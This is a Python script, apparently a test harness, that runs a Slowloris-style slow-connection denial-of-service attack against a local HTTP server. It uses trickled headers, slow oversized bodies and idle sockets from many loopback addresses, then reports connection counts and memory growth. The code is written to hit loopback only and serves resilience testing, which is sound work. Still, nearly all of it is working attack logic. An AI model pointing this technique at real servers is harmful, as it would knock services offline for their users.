#!/usr/bin/env python3
"""Holds slow or idle connections open against a local HTTP server for a while, as an attacker would.

    slowloris.py PORT SECONDS [CONNECTIONS [SERVER_PID]]

A third of the connections send their request headers a few bytes at a time, a third announce a large body
and send it a few bytes at a time, and a third connect and say nothing. Whatever the server closes is opened
again, so CONNECTIONS stay in play for SECONDS. They come from many loopback addresses (127.0.0.2 and up, at
most 16 connections each), as an attack from many machines would. Only loopback is ever a target. Prints one
JSON line: how many connections were opened, refused and closed by the server, and, given the server's pid,
how far its resident memory rose above where it was at the start (peak_rss_growth_mb).
"""
import json
import selectors
import socket
import sys
import time

port, seconds = int(sys.argv[1]), float(sys.argv[2])
wanted = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
pid = int(sys.argv[4]) if len(sys.argv) > 4 else 0
per_address = 16
sel = selectors.DefaultSelector()
stats = {"opened": 0, "refused": 0, "closed_by_server": 0}
conns = {}  # socket -> (kind, bytes still to send, next send time)


def address(i):
    n = 2 + i // per_address
    return f"127.0.{n // 250}.{n % 250 + 1}"


def open_one(i, now):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.bind((address(i), 0))
        s.connect_ex(("127.0.0.1", port))
    except OSError:
        stats["refused"] += 1
        s.close()
        return
    kind = i % 3
    if kind == 0:
        todo = b"GET /api/v2/status/heartbeat HTTP/1.1\r\nHost: x\r\n" + b"X-Pad: " + b"a" * 4000 + b"\r\n\r\n"
    elif kind == 1:
        todo = b"POST /api/v2/generate/async HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" \
               b"Content-Length: 31457280\r\n\r\n" + b"[" * 100000
    else:
        todo = b""
    conns[s] = [i, todo, now + 0.5]
    sel.register(s, selectors.EVENT_READ)
    stats["opened"] += 1


def rss_mb():
    if not pid:
        return 0.0
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024.0
    return 0.0


start = time.time()
rss_start = peak = rss_mb()
next_sample = start
reopen = []  # (when, i): a closed connection comes back a second later, as a patient attacker's would
for i in range(wanted):
    open_one(i, start)
while time.time() - start < seconds:
    now = time.time()
    if now >= next_sample:
        peak = max(peak, rss_mb())
        next_sample = now + 0.25
    while reopen and reopen[0][0] <= now:
        open_one(reopen.pop(0)[1], now)
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            data = s.recv(65536)
        except (BlockingIOError, InterruptedError):
            continue
        except OSError:
            data = b""
        if not data:  # closed (or refused with a 503 and closed): come back
            stats["closed_by_server"] += 1
            i = conns.pop(s)[0]
            sel.unregister(s)
            s.close()
            reopen.append((now + 1.0, i))
    for s, c in list(conns.items()):
        if c[1] and now >= c[2]:
            try:
                sent = s.send(c[1][:8])
                c[1] = c[1][sent:]
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                pass
            c[2] = now + 2.0
stats["held_at_end"] = len(conns)
for s in list(conns):
    s.close()
stats["peak_rss_growth_mb"] = round(peak - rss_start, 1)
print(json.dumps(stats))
